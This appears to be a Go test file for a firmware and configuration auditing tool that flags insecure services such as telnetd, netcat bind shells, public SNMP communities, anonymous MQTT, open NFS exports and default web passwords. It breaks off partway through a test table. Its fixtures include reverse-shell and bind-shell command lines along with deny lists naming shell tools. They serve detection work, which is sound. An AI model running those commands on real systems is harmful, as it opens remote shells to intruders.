// SPDX-License-Identifier: Apache-2.0

package probe_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/backstay/backstay/configs/probe"
)

type serviceCase struct {
	files              files
	kind, target, want string
	result             string // the beginning of brief
}

func checkCases(t *testing.T, cases map[string]serviceCase) {
	t.Helper()
	for name, c := range cases {
		v := newCheck(t, c.kind, c.target, c.want).Check(context.Background(), host(t, tree(t, c.files)))
		if got := brief(v); got != c.result && !strings.HasPrefix(got, c.result+" ") && !strings.HasPrefix(got, c.result+";") && !(strings.Contains(c.result, ";") && strings.HasPrefix(got, c.result)) {
			t.Errorf("%s: %s (%s), want %s", name, got, v.Reason, c.result)
		}
		if (v.Result == probe.Unknown || v.Result == probe.NotApplicable) && v.Reason == "" || v.Result == probe.Pass && len(v.Inspected) == 0 {
			t.Errorf("%s: %s without a reason", name, v.Result)
		}
	}
}

func TestStartProgram(t *testing.T) {
	const (
		nc    = `{"deny":["nc"],"with":["-e","--exec"],"super":"too"}`
		vnc   = `{"deny":["x11vnc"],"without":["-rfbauth"]}`
		shell = `{"deny":["sh"],"without":["/*"],"super":"only"}`
	)
	tab := func(cmd string) files { return files{"etc/inittab": "::once:" + cmd + "\n"} }
	checkCases(t, map[string]serviceCase{
		"merged flag":         {tab("nc -lp 9 -le /bin/sh"), "start-program", "init", nc, "fail; /etc/inittab:1 starts nc"},
		"flag of its own":     {tab("nc 1.2.3.4 9 -e /bin/sh"), "start-program", "init", nc, "fail"},
		"long flag":           {tab("nc --exec=/bin/sh -l"), "start-program", "init", nc, "fail"},
		"harmless nc":         {tab("nc -z 1.2.3.4 22"), "start-program", "init", nc, "pass"},
		"a word with e":       {tab("nc -v-e x"), "start-program", "init", nc, "pass"},
		"another program":     {tab("echo nc -e /bin/sh"), "start-program", "init", nc, "pass"},
		"in cron":             {files{"etc/inittab": "", "etc/crontabs/root": "* * * * * nc -e sh h 1\n"}, "start-program", "init", nc, "fail; /etc/crontabs/root:1"},
		"in inetd":            {files{"etc/inittab": "", "etc/inetd.conf": "9 stream tcp nowait root /bin/nc nc -e /bin/sh\n"}, "start-program", "init", nc, "fail"},
		"without":             {tab("x11vnc -forever"), "start-program", "init", vnc, "fail"},
		"not without":         {tab("x11vnc -rfbauth /etc/p"), "start-program", "init", vnc, "pass"},
		"shell of inetd":      {files{"etc/inittab": "", "etc/inetd.conf": "9 stream tcp nowait root /bin/sh sh -i\n"}, "start-program", "init", shell, "fail; /etc/inetd.conf:1"},
		"script of inetd":     {files{"etc/inittab": "", "etc/inetd.conf": "9 stream tcp nowait root /bin/sh sh /opt/x.sh\n"}, "start-program", "init", shell, "pass"},
		"shell of init":       {tab("/bin/sh"), "start-program", "init", shell, "pass"},
		"redirection":         {files{"etc/init.d/S1a": "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/9 0>&1\n"}, "start-program", "init", `{"deny":["bash"],"with":["/dev/tcp/*"]}`, "fail"},
		"redirected test":     {files{"etc/init.d/S1a": "#!/bin/sh\ntimeout 1 bash -c 'cat </dev/null >/dev/tcp/10.0.0.1/9'\n"}, "start-program", "init", `{"deny":["bash"],"with":["/dev/tcp/*"]}`, "pass"},
		"several arguments":   {tab("redis-server --port 1 --protected-mode no"), "start-program", "init", `{"deny":["redis-server"],"with":["--protected-mode no"]}`, "fail"},
		"not in a row":        {tab("redis-server --appendonly no --protected-mode yes"), "start-program", "init", `{"deny":["redis-server"],"with":["--protected-mode no"]}`, "pass"},
		"as root":             {files{"lib/systemd/systemd": "x", "etc/systemd/system/a.target.wants/h.service": "-> ../h.service", "etc/systemd/system/h.service": "[Service]\nUser=www\nExecStart=/bin/httpd\n"}, "start-program", "init", `{"deny":["httpd"],"root":true}`, "pass"},
		"without login":       {tab("telnetd -F -l /bin/sh"), "start-program", "init", `{"deny":["telnetd"]}`, "fail; /etc/inittab:1 starts telnetd, a shell without login"},
		"with login":          {tab("telnetd -F -l /bin/login"), "start-program", "init", `{"deny":["telnetd"]}`, "fail; /etc/inittab:1 starts telnetd, a login in clear text"},
		"unreadable and bad":  {files{"etc/inittab": "::once:telnetd\n", "etc/rc.local/x": "", "etc/crontab": "-> /etc/inittab/x"}, "start-program", "init", `{"deny":["telnetd"]}`, "fail"},
		"unreadable and fine": {files{"etc/inittab": "", "etc/crontab": strings.Repeat("x", probe.MaxFile+1)}, "start-program", "init", `{"deny":["telnetd"]}`, "unknown"},
	})
}

func TestSetting(t *testing.T) {
	const (
		vsftpd   = `{"programs":["vsftpd"],"form":"assign","keys":["anonymous_enable"],"deny":["yes"],"default":"YES","set":"NO"}`
		share    = `{"form":"ini","section":"*","keys":["guest ok","public"],"deny":["yes"],"set":"no"}`
		module   = `{"form":"ini","section":"*","keys":["read only"],"one_of":["yes"],"default":"yes","when":{"keys":["auth users"],"one_of":[""],"default":""},"set":"yes"}`
		uci      = `{"form":"uci","section":"upnpd","keys":["secure_mode"],"one_of":["1","on"],"default":"0","set":"1","when":{"keys":["enabled"],"one_of":["1"],"default":"0"}}`
		line     = `{"form":"line","deny":["input(type=\"imudp\"*","$udpserverrun*"]}`
		bind     = `{"form":"words","keys":["bind"],"deny":["* *.*"],"one_of":["127.*"],"default":""}`
		secret   = `{"form":"words","keys":["requirepass"],"deny":["","on","admin"],"default":"","secret":true}`
		flag     = `{"form":"assign","keys":["enable-tftp"],"deny":["*"]}`
		also     = `{"also":["/etc/r.d/*.conf"],"form":"line","deny":["bad"]}`
		default_ = `{"form":"words","keys":["x"],"one_of":["1"],"default":"0"}`
	)
	checkCases(t, map[string]serviceCase{
		"set":                 {files{"etc/v": "anonymous_enable=YES\n"}, "setting", "/etc/v", vsftpd, "fail; /etc/v:1 anonymous_enable is YES"},
		"commented":           {files{"etc/v": "# anonymous_enable=NO\n"}, "setting", "/etc/v", vsftpd, "fail; /etc/v anonymous_enable is not set, which means YES"},
		"last counts":         {files{"etc/v": "anonymous_enable=YES\nanonymous_enable = no\n"}, "setting", "/etc/v", vsftpd, "pass"},
		"no file, no program": {files{"etc/x": ""}, "setting", "/etc/v", vsftpd, "not-applicable"},
		"no file, a program":  {files{"usr/sbin/vsftpd": "x"}, "setting", "/etc/v", vsftpd, "fail; /usr/sbin/vsftpd no /etc/v, which means YES"},
		"a directory":         {files{"etc/v/x": ""}, "setting", "/etc/v", vsftpd, "unknown"},
		"case and spaces":     {files{"etc/s": "[global]\n[A b]\n\tGuest OK = Yes\n"}, "setting", "/etc/s", share, "fail; /etc/s:3"},
		"synonym":             {files{"etc/s": "[a]\npublic=yes\n"}, "setting", "/etc/s", share, "fail; /etc/s:2"},
		"comment of ini":      {files{"etc/s": "[a]\n; guest ok = yes\n"}, "setting", "/etc/s", share, "pass"},
		"global holds below":  {files{"etc/s": "[global]\nguest ok = yes\n[a]\n"}, "setting", "/etc/s", share, "fail; /etc/s:2"},
		"section overrides":   {files{"etc/s": "guest ok = yes\n[a]\nguest ok = no\n"}, "setting", "/etc/s", share, "pass"},
		"condition":           {files{"etc/m": "[a]\nread only = no\n[b]\nread only = no\nauth users = x\n[c]\n"}, "setting", "/etc/m", module, "fail; /etc/m:2 a.read only is no"},
		"uci disabled":        {files{"etc/u": "config upnpd config\n\toption secure_mode '0'\n"}, "setting", "/etc/u", uci, "pass"},
		"uci enabled":         {files{"etc/u": "config upnpd config\n\toption enabled 1\n\toption secure_mode '0'\n"}, "setting", "/etc/u", uci, "fail; /etc/u:3"},
		"uci default":         {files{"etc/u": "config x\noption enabled 1\nconfig upnpd\n\toption enabled 1\n"}, "setting", "/etc/u", uci, "fail; /etc/u:3 upnpd.secure_mode is not set"},
		"uci without section": {files{"etc/u": "config x\n"}, "setting", "/etc/u", uci, "not-applicable"},
		"line":                {files{"etc/l": " input( type=\"imudp\" port=\"514\")\n"}, "setting", "/etc/l", line, "fail; /etc/l:1"},
		"commented line":      {files{"etc/l": "#$UDPServerRun 514\n"}, "setting", "/etc/l", line, "pass"},
		"two addresses":       {files{"etc/b": "bind 127.0.0.1 10.0.0.1\n"}, "setting", "/etc/b", bind, "fail"},
		"loopback":            {files{"etc/b": "bind 127.0.0.1 -::1\n"}, "setting", "/etc/b", bind, "pass"},
		"secret is not shown": {files{"etc/b": "requirepass admin\n"}, "setting", "/etc/b", secret, "fail; /etc/b:1 requirepass is a value that many devices have"},
		"quoted nothing":      {files{"etc/b": "requirepass \"\"\n"}, "setting", "/etc/b", secret, "fail; /etc/b:1 requirepass is empty"},
		"key alone":           {files{"etc/d": "enable-tftp\n"}, "setting", "/etc/d", flag, "fail; /etc/d:1 enable-tftp is on"},
		"key that begins so":  {files{"etc/d": "enable-tftp-x\n"}, "setting", "/etc/d", flag, "pass"},
		"more files":          {files{"etc/r": "", "etc/r.d/a.conf": "bad\n", "etc/r.d/b.txt": "bad\n"}, "setting", "/etc/r", also, "fail; /etc/r.d/a.conf:1"},
		"no program, no file": {files{"etc/x": ""}, "setting", "/etc/y", default_, "not-applicable"},
	})
}

func TestSNMP(t *testing.T) {
	const find = `{"find":["default","write","crypto"]}`
	conf := func(s string) files { return files{"etc/snmp/snmpd.conf": s} }
	checkCases(t, map[string]serviceCase{
		"public":              {conf("rocommunity public\n"), "snmp", "access", find, "fail; /etc/snmp/snmpd.conf:1 rocommunity public"},
		"public for loopback": {conf("rocommunity public 127.0.0.1\nrocommunity6 public ::1\nrocommunity private localhost .1.3\n"), "snmp", "access", find, "pass"},
		"public for a net":    {conf("rocommunity public 10.0.0.0/8\n"), "snmp", "access", find, "fail"},
		"its own name":        {conf("rocommunity Kq7pUe2x 10.0.0.5\n"), "snmp", "access", find, "pass"},
		"may write":           {conf("rwcommunity Kq7pUe2x\n"), "snmp", "access", find, "fail; /etc/snmp/snmpd.conf:1 rwcommunity: a community that may write"},
		"com2sec":             {conf("com2sec -Cn ctx me default private\n"), "snmp", "access", find, "fail; /etc/snmp/snmpd.conf:1 com2sec private"},
		"com2sec of loopback": {conf("com2sec local localhost public\n"), "snmp", "access", find, "pass"},
		"user with DES":       {conf("createUser a SHA \"pass word\" DES\n"), "snmp", "access", find, "fail; /etc/snmp/snmpd.conf:1 a user with DES"},
		"user with AES":       {conf("createUser a SHA-256 passpass AES\n"), "snmp", "access", find, "pass"},
		"commented":           {conf("#rocommunity public\n"), "snmp", "access", find, "pass"},
		"uci":                 {files{"etc/config/snmpd": "config com2sec public\n\toption secname ro\n\toption source default\n\toption community public\nconfig com2sec private\n\toption source localhost\n\toption community private\n"}, "snmp", "access", find, "fail; /etc/config/snmpd:1 com2sec public"},
		"mini default":        {files{"etc/inittab": "::respawn:/usr/sbin/mini_snmpd -n\n"}, "snmp", "access", find, "fail; /etc/inittab:1 mini_snmpd public"},
		"mini own":            {files{"etc/inittab": "::respawn:/usr/sbin/mini_snmpd -n -c Kq7pUe2x\n"}, "snmp", "access", find, "pass"},
		"none":                {files{"etc/inittab": ""}, "snmp", "access", find, "not-applicable"},
		"a directory":         {files{"etc/snmp/snmpd.conf/x": ""}, "snmp", "access", find, "unknown"},
	})
}

func TestMosquitto(t *testing.T) {
	const find = `{"find":["anonymous"]}`
	v1, v2 := "\x00mosquitto version %s\x001.6.12\x00", "\x002.0.18\x00"
	conf := func(s, bin string) files {
		return files{"etc/mosquitto/mosquitto.conf": s, "usr/sbin/mosquitto": bin}
	}
	checkCases(t, map[string]serviceCase{
		"version 1 default":         {conf("listener 1883\n", v1), "mosquitto", "listeners", find, "fail; /etc/mosquitto/mosquitto.conf:1 allow_anonymous is not set, which means true before version 2"},
		"version 2 default":         {conf("listener 1883\n", v2), "mosquitto", "listeners", find, "pass"},
		"no listener, version 1":    {conf("# x\n", v1), "mosquitto", "listeners", find, "fail"},
		"no listener, version 2":    {conf("", v2), "mosquitto", "listeners", find, "pass"},
		"unknown version":           {conf("listener 1883\n", "x"), "mosquitto", "listeners", find, "unknown"},
		"said anyway":               {conf("listener 1883\nallow_anonymous false\n", "x"), "mosquitto", "listeners", find, "pass"},
		"allowed":                   {conf("listener 1883\nallow_anonymous true\n", v2), "mosquitto", "listeners", find, "fail; /etc/mosquitto/mosquitto.conf:2"},
		"allowed on loopback":       {conf("listener 1883 127.0.0.1\nallow_anonymous true\n", v2), "mosquitto", "listeners", find, "pass"},
		"unix socket":               {conf("listener 0 /run/m.sock\nallow_anonymous true\n", v2), "mosquitto", "listeners", find, "pass"},
		"per listener, no listener": {conf("allow_anonymous false\nper_listener_settings true\n", v1), "mosquitto", "listeners", find, "pass"},
		"per listener":              {conf("per_listener_settings true\nlistener 1883 ::1\nallow_anonymous true\nlistener 1884\nallow_anonymous false\n", v2), "mosquitto", "listeners", find, "pass"},
		"per listener, bad":         {conf("per_listener_settings true\nlistener 1883\nallow_anonymous false\nlistener 1884\nallow_anonymous true\n", v2), "mosquitto", "listeners", find, "fail; /etc/mosquitto/mosquitto.conf:5"},
		"included":                  {files{"etc/mosquitto/mosquitto.conf": "include_dir /etc/mosquitto/conf.d\n", "etc/mosquitto/conf.d/a.conf": "listener 1883\nallow_anonymous true\n"}, "mosquitto", "listeners", find, "fail; /etc/mosquitto/conf.d/a.conf:2"},
		"package":                   {files{"etc/mosquitto/mosquitto.conf": "listener 1883\n", "usr/sbin/mosquitto": "x", "usr/lib/opkg/status": "Package: a\nVersion: 2\n\nPackage: mosquitto\nVersion: 1.5.8-1\n"}, "mosquitto", "listeners", find, "fail"},
		"plain":                     {conf("listener 1883\nlistener 8883\ncertfile /x\nlistener 1 127.0.0.1\n", v2), "mosquitto", "listeners", `{"find":["plain"]}`, "fail; /etc/mosquitto/mosquitto.conf:1 no certfile: clear text"},
		"no broker":                 {files{"etc/inittab": ""}, "mosquitto", "listeners", find, "not-applicable"},
		"include of itself":         {conf("include_dir /etc/mosquitto\nallow_anonymous false\n", v1), "mosquitto", "listeners", find, "pass"},
	})
}

func TestExports(t *testing.T) {
	const deny = `{"deny":["everybody","no_root_squash","insecure"]}`
	conf := func(s string) files { return files{"etc/exports": s} }
	checkCases(t, map[string]serviceCase{
		"star":              {conf("/a *(ro)\n"), "exports", "/etc/exports", deny, "fail; /etc/exports:1 /a for everybody"},
		"no host":           {conf("/a\n"), "exports", "/etc/exports", deny, "fail"},
		"a space too many":  {conf("/a host (rw)\n"), "exports", "/etc/exports", deny, "fail; /etc/exports:1 /a for everybody"},
		"hosts":             {conf("/a 10.0.0.1(rw,sync) 10.0.0.2(ro)\n"), "exports", "/etc/exports", deny, "pass"},
		"root":              {conf("\"/a b\" host(rw,no_root_squash)\n"), "exports", "/etc/exports", deny, "fail; /etc/exports:1 /a b no_root_squash"},
		"root taken back":   {conf("/a host(no_root_squash,root_squash)\n"), "exports", "/etc/exports", deny, "pass"},
		"default options":   {conf("/a -no_root_squash host(rw)\n"), "exports", "/etc/exports", deny, "fail"},
		"insecure":          {conf("/a \\\n host(insecure)\n"), "exports", "/etc/exports", deny, "fail; /etc/exports:1 /a insecure"},
		"commented":         {conf("# /a *(rw)\n"), "exports", "/etc/exports", deny, "pass"},
		"parts":             {files{"etc/exports.d/a.exports": "/a *(rw)\n", "etc/exports.d/b": "/b *(rw)\n"}, "exports", "/etc/exports", deny, "fail; /etc/exports.d/a.exports:1"},
		"nothing is shared": {files{"etc/x": ""}, "exports", "/etc/exports", deny, "not-applicable"},
	})
}

func TestWeb(t *testing.T) {
	const (
		cred  = `{"find":["credential"]}`
		root  = `{"find":["document-root"]}`
		cgi   = `{"find":["cgi-root"]}`
		plain = `{"find":["plain"]}`
		hash  = "$1$7ujMko0v$60lBauJfeTLe2uYYdwMLT." // of "admin"
	)
	bb := func(cmd string, more files) files {
		f := files{"bin/busybox": "b", "usr/sbin/httpd": "-> /bin/busybox", "etc/init.d/S50web": "#!/bin/sh\n" + cmd + "\n"}
		for k, v := range more {
			f[k] = v
		}
		return f
	}
	checkCases(t, map[string]serviceCase{
		"clear text":          {files{"etc/httpd.conf": "A:10.\n/:admin:admin\n.jpg:image/jpeg\n*.php:/x\nE404:/e\n"}, "web", "servers", cred, "fail; /etc/httpd.conf:2 a password in clear text"},
		"password of shadow":  {files{"etc/httpd.conf": "/adm:root:*\n"}, "web", "servers", cred, "pass"},
		"default, hashed":     {files{"etc/httpd.conf": "/:admin:" + hash + "\n"}, "web", "servers", cred, "fail; /etc/httpd.conf:1 md5crypt of a default password"},
		"own, hashed, image":  {files{"etc/htpasswd": "bob:$5$x$WXmsUyhlaXIrqfSzwpsr1oKYgQyhfsHMIPudk5ae/eD\n"}, "web", "servers", cred, "fail; /etc/htpasswd:1 sha256crypt of a password that every device"},
		"SHA-1":               {files{"etc/nginx/.htpasswd": "x:{SHA}0DPiKuNIrrVmD8IUCuw1hQxNqZc=\n"}, "web", "servers", cred, "fail; /etc/nginx/.htpasswd:1 SHA-1 of a default password"},
		"digest":              {files{"etc/htpasswd": "admin:r:" + "f6ec36e7f6a1cff1e8d10c94f7a8d5a2" + "\n"}, "web", "servers", cred, "fail; /etc/htpasswd:1 digest of a password that every"},
		"uhttpd of shadow":    {files{"etc/config/uhttpd": "config httpauth\n\toption prefix /\n\toption username root\n\toption password '$p$root'\n"}, "web", "servers", cred, "pass"},
		"uhttpd":              {files{"etc/config/uhttpd": "config httpauth\n\toption username root\n\toption password 'x9'\n"}, "web", "servers", cred, "fail; /etc/config/uhttpd:1 a password in clear text"},
		"named by nginx":      {files{"etc/nginx/nginx.conf": "auth_basic_user_file secrets;\n", "etc/nginx/secrets": "a:b\n"}, "web", "servers", cred, "fail; /etc/nginx/secrets:1"},
		"Apache's file":       {files{"etc/httpd.conf": "ServerRoot \"/x\"\n/:admin:admin\n"}, "web", "servers", cred, "not-applicable"},
		"none":                {files{"etc/inittab": ""}, "web", "servers", cred, "not-applicable"},
		"root is the top":     {bb("httpd -h /", nil), "web", "servers", root, "fail; /etc/init.d/S50web:2 the document root is /"},
		"root of the file":    {bb("httpd -c /etc/h.conf", files{"etc/h.conf": "H:/etc\n"}), "web", "servers", root, "fail; /etc/init.d/S50web:2 the document root is /etc"},
		"where init is":       {bb("httpd -p 80", nil), "web", "servers", root, "fail; /etc/init.d/S50web:2 the document root is /"},
		"goes elsewhere":      {bb("cd /www && httpd", files{"www/x": ""}), "web", "servers", root, "pass"},
		"pages":               {bb("httpd -h /www", files{"www/a.html": "", "www/ca.pem": "-----BEGIN CERTIFICATE-----\n"}), "web", "servers", root, "pass"},
		"key among pages":     {bb("httpd -h /www", files{"www/ssl/s.pem": "-----BEGIN EC PRIVATE KEY-----\nA\n"}), "web", "servers", root, "fail; /etc/init.d/S50web:2 /www/ssl/s.pem is published"},
		"link out":            {bb("httpd -h /www", files{"www/conf": "-> /etc"}), "web", "servers", root, "fail; /etc/init.d/S50web:2 /www/conf is a link to /etc"},
		"root is a link":      {bb("httpd -h /www", files{"www": "-> /var/www", "var/www/x": ""}), "web", "servers", root, "pass"},
		"not busybox":         {files{"bin/busybox": "b", "usr/sbin/httpd": "apache", "etc/init.d/S50web": "#!/bin/sh\n/usr/sbin/httpd -h /\n"}, "web", "servers", root, "not-applicable"},
		"applet":              {files{"bin/busybox": "b", "etc/init.d/S50web": "#!/bin/sh\nbusybox httpd -h /etc\n"}, "web", "servers", root, "fail"},
		"nginx":               {files{"etc/nginx/nginx.conf": "server { root /; }\n"}, "web", "servers", root, "fail; /etc/nginx/nginx.conf:1 the document root is /"},
		"lighttpd":            {files{"etc/lighttpd/lighttpd.conf": "# server.document-root = \"/\"\nserver.document-root = \"/etc\"\n"}, "web", "servers", root, "fail; /etc/lighttpd/lighttpd.conf:2"},
		"cgi as root":         {bb("httpd -h /www", files{"www/cgi-bin/a": ""}), "web", "servers", cgi, "fail; /etc/init.d/S50web:2 runs /www/cgi-bin as root"},
		"cgi with a user":     {bb("httpd -u www -h /www", files{"www/cgi-bin/a": ""}), "web", "servers", cgi, "pass"},
		"no cgi":              {bb("httpd -h /www", files{"www/a": ""}), "web", "servers", cgi, "pass"},
		"plain":               {bb("httpd -p 8080 -h /www", nil), "web", "servers", plain, "fail; /etc/init.d/S50web:2 busybox httpd serves port 8080"},
		"plain on loopback":   {bb("httpd -p 127.0.0.1:80 -h /www", nil), "web", "servers", plain, "pass"},
		"uhttpd plain":        {files{"etc/config/uhttpd": "config uhttpd main\n\tlist listen_http 0.0.0.0:80\n\toption redirect_https 0\n"}, "web", "servers", plain, "fail; /etc/config/uhttpd:1"},
		"uhttpd redirects":    {files{"etc/config/uhttpd": "config uhttpd main\n\tlist listen_http 0.0.0.0:80\n\toption redirect_https 1\n"}, "web", "servers", plain, "pass"},
		"nginx plain":         {files{"etc/nginx/nginx.conf": "server {\n listen 80;\n}\n"}, "web", "servers", plain, "fail"},
		"nginx redirects":     {files{"etc/nginx/nginx.conf": "server { listen 80; return 301 https://$host; }\nserver { listen 443 ssl; root /www; }\n"}, "web", "servers", plain, "pass"},
		"lighttpd with TLS":   {files{"etc/lighttpd/lighttpd.conf": "ssl.engine = \"enable\"\n"}, "web", "servers", plain, "pass"},
		"commands unreadable": {files{"etc/inittab/x": "", "etc/crontab": strings.Repeat("x", probe.MaxFile+1)}, "web", "servers", plain, "unknown"},
	})
}

func TestListenerList(t *testing.T) {
	dir := t.TempDir()
	procTree(t, dir, map[string]string{
		"tcp": socketLine("0.0.0.0", 22, "0A", 11) + socketLine("127.0.0.1", 6379, "0A", 12) + socketLine("10.0.0.1", 80, "0A", 13) + socketLine("0.0.0.0", 2049, "0A", 14),
		"udp": socketLine("0.0.0.0", 68, "07", 15),
	}, procEntry{1, 0, "init", "init", "/bin/busybox", nil}, procEntry{5, 1, "dropbear", "dropbear -R", "/usr/sbin/dropbear", []int{11}},
		procEntry{6, 1, "redis", "redis-server", "/usr/bin/redis-server", []int{12}}, procEntry{7, 1, "web", "/opt/web", "/opt/web (deleted)", []int{13}}, procEntry{8, 1, "udhcpc", "udhcpc", "/bin/busybox", []int{15}})
	base := `{"proto":"tcp","port":22,"exe":"dropbear"},{"proto":"udp","port":67,"to":68}`
	for want, result := range map[string]string{
		`{"allow":[` + base + `]}`: "fail; /proc/net/tcp listens on 10.0.0.1, /opt/web, whose file is gone; /proc/net/tcp listens on any, of the kernel or of a hidden process",
		`{"allow":[` + base + `,{"port":80,"bind":"10.0.0.0/8"},{"port":2049}]}`:                                                "pass",
		`{"allow":[` + base + `,{"port":80,"bind":"10.0.0.2"},{"port":2049}]}`:                                                  "fail; /proc/net/tcp listens on 10.0.0.1",
		`{"allow":[` + base + `,{"port":80,"bind":"10.0.0.1"},{"port":2049}],"loopback":true}`:                                  "fail; /proc/net/tcp listens on loopback, /usr/bin/redis-server",
		`{"allow":[` + base + `,{"port":80},{"port":2049},{"bind":"loopback","exe":"/usr/bin/redis-server"}],"loopback":true}`:  "pass",
		`{"allow":[{"proto":"tcp","port":22,"exe":"/usr/sbin/sshd"},{"proto":"udp"},{"port":80},{"port":2049}]}`:                "fail; /proc/net/tcp listens on any, /usr/sbin/dropbear",
		`{"allow":[{"proto":"tcp","port":22},{"proto":"udp","port":68,"exe":"udhcpc"},{"port":80},{"port":2049,"exe":"nfsd"}]}`: "fail; /proc/net/tcp listens on any, of the kernel",
		`{"deleted":true}`: "fail; /proc/net/tcp tcp socket of /opt/web, whose file is gone",
		`{"allow":[{"proto":"tcp"},{"proto":"udp"}]}`: "pass",
	} {
		v := newCheck(t, "listeners", "sockets", want).Check(context.Background(), liveHost(t, dir))
		if got := brief(v); !strings.HasPrefix(got, result) {
			t.Errorf("%s: %s (%s), want %s", want, got, v.Reason, result)
		}
	}
	if v := newCheck(t, "listeners", "sockets", `{"deleted":true}`).Check(context.Background(), host(t, dir)); v.Result != probe.NotApplicable {
		t.Errorf("an image: %s", v.Result)
	}
}

func TestListenersThatMayNotBeSeen(t *testing.T) {
	dir := t.TempDir()
	procTree(t, dir, map[string]string{"tcp": socketLine("0.0.0.0", 22, "0A", 11)}, procEntry{1, 0, "init", "init", "", nil})
	must(t, os.WriteFile(filepath.Join(dir, "proc/1/exe"), nil, 0o600)) // no link: it cannot be read
	for want, result := range map[string]probe.Result{`{"allow":[{"port":22,"exe":"x"}]}`: probe.Unknown, `{"allow":[{"port":22}]}`: probe.Pass, `{"allow":[{"port":23,"exe":"x"}]}`: probe.Fail} {
		if v := newCheck(t, "listeners", "sockets", want).Check(context.Background(), liveHost(t, dir)); v.Result != result {
			t.Errorf("%s: %s %s", want, v.Result, v.Reason)
		}
	}
}

// A running system fails for what runs and for what listens, whatever its files say.
func TestStartProgramOnARunningSystem(t *testing.T) {
	const deny = `{"deny":["telnetd"],"ports":["tcp/23"]}`
	for name, c := range map[string]struct {
		port  int
		addr  string
		procs []procEntry
		want  string
	}{
		"by name":         {9, "0.0.0.0", []procEntry{{5, 1, "telnetd", "/bin/busybox telnetd -l /bin/sh", "/bin/busybox", []int{11}}}, "fail; /proc/5 telnetd runs, a shell without login"},
		"by port":         {23, "0.0.0.0", []procEntry{{5, 1, "x", "/opt/x", "/opt/x", []int{11}}}, "fail; /proc/net/tcp listens on tcp/23, /opt/x"},
		"both once":       {23, "0.0.0.0", []procEntry{{5, 1, "telnetd", "telnetd", "/bin/busybox", []int{11}}}, "fail; /proc/5 telnetd runs, a login in clear text"},
		"loopback":        {23, "127.0.0.1", []procEntry{{5, 1, "x", "/opt/x", "/opt/x", []int{11}}}, "pass"},
		"neither":         {22, "0.0.0.0", []procEntry{{5, 1, "x", "/opt/x telnetd", "/opt/x", []int{11}}}, "pass"},
		"a kernel thread": {22, "0.0.0.0", []procEntry{{5, 2, "telnetd", "", "", nil}}, "pass"},
	} {
		dir := tree(t, files{"etc/inittab": "::once:/bin/a\n"})
		procTree(t, dir, map[string]string{"tcp": socketLine(c.addr, c.port, "0A", 11)}, append(c.procs, procEntry{1, 0, "init", "init", "/bin/busybox", nil})...)
		v := newCheck(t, "start-program", "init", deny).Check(context.Background(), liveHost(t, dir))
		if got := brief(v); got != c.want {
			t.Errorf("%s: %s (%s), want %s", name, got, v.Reason, c.want)
		}
	}
	v := newCheck(t, "start-program", "init", deny).Check(context.Background(), liveHost(t, tree(t, files{"etc/inittab": ""})))
	if v.Result != probe.Unknown {
		t.Errorf("without /proc: %s", v.Result)
	}
}

func TestServiceWantsAreChecked(t *testing.T) {
	for _, bad := range [][3]string{
		{"start-program", "init", `{"deny":["a"],"ports":["23"]}`}, {"start-program", "init", `{"deny":["a"],"ports":["sctp/1"]}`}, {"start-program", "init", `{"deny":["a"],"super":"yes"}`},
		{"listeners", "sockets", `{}`}, {"listeners", "x", `{"deleted":true}`}, {"listeners", "sockets", `{"allow":[{"port":70000}]}`}, {"listeners", "sockets", `{"allow":[{"port":9,"to":8}]}`}, {"listeners", "sockets", `{"allow":[{"bind":"lan"}]}`}, {"listeners", "sockets", `{"allow":[{"proto":"sctp"}]}`},
		{"setting", "/x", `{"form":"yaml","keys":["a"],"deny":["b"]}`}, {"setting", "/x", `{"form":"words","deny":["b"]}`}, {"setting", "/x", `{"form":"words","keys":["a"]}`}, {"setting", "/x", `{"form":"words","keys":["a"],"deny":["b"],"set":"B"}`}, {"setting", "x", `{"form":"words","keys":["a"],"deny":["b"]}`}, {"setting", "/x", `{"form":"uci","keys":["a"],"deny":["b"]}`}, {"setting", "/x", `{"form":"line","deny":["b"],"default":"x"}`},
		{"snmp", "access", `{}`}, {"snmp", "x", `{"find":["write"]}`}, {"snmp", "access", `{"find":["x"]}`}, {"mosquitto", "listeners", `{}`}, {"mosquitto", "x", `{"find":["plain"]}`}, {"exports", "/etc/exports", `{}`}, {"web", "servers", `{}`}, {"web", "servers", `{"find":["x"]}`}, {"web", "x", `{"find":["plain"]}`},
	} {
		k, err := probe.Find(bad[0])
		must(t, err)
		if _, err := k.New(bad[1], []byte(bad[2])); err == nil {
			t.Errorf("%v is taken", bad)
		}
	}
}

func TestServiceTightening(t *testing.T) {
	for _, c := range []struct {
		kind, target, floor, site string
		ok                        bool
	}{
		{"start-program", "init", `{"deny":["a"],"ports":["tcp/1"]}`, `{"deny":["a","b"],"ports":["tcp/1"]}`, true},
		{"start-program", "init", `{"deny":["a"],"ports":["tcp/1"]}`, `{"deny":["a"]}`, false},
		{"start-program", "init", `{"deny":["a"],"with":["-e"]}`, `{"deny":["a"]}`, true},
		{"start-program", "init", `{"deny":["a"]}`, `{"deny":["a"],"with":["-e"]}`, false},
		{"start-program", "init", `{"deny":["a"],"with":["-e"]}`, `{"deny":["a"],"with":["-c"]}`, false},
		{"start-program", "init", `{"deny":["a"]}`, `{"deny":["a"],"without":["-e"]}`, false},
		{"start-program", "init", `{"deny":["a"],"super":"too"}`, `{"deny":["a"]}`, false},
		{"start-program", "init", `{"deny":["a"]}`, `{"deny":["a"],"super":"only"}`, false},
		{"start-program", "init", `{"deny":["a"]}`, `{"deny":["a"],"root":true}`, false},
		{"listeners", "sockets", `{"allow":[{"proto":"tcp","port":1,"to":9}]}`, `{"allow":[{"proto":"tcp","port":2,"exe":"/x"}]}`, true},
		{"listeners", "sockets", `{"allow":[{"proto":"tcp","port":1,"to":9}]}`, `{"allow":[{"proto":"tcp","port":9,"to":10}]}`, false},
		{"listeners", "sockets", `{"allow":[{"proto":"tcp","port":1}]}`, `{"allow":[{"port":1}]}`, false},
		{"listeners", "sockets", `{"allow":[{"port":1,"exe":"/x"}]}`, `{"allow":[{"port":1}]}`, false},
		{"listeners", "sockets", `{"allow":[{"port":1}]}`, `{"deleted":true}`, false},
		{"listeners", "sockets", `{"deleted":true}`, `{"allow":[{"port":1}]}`, false},
		{"listeners", "sockets", `{"deleted":true}`, `{"deleted":true,"allow":[{"port":1}]}`, true},
		{"setting", "/x", `{"form":"words","keys":["a"],"one_of":["1","2"]}`, `{"form":"words","keys":["a"],"one_of":["1"]}`, true},
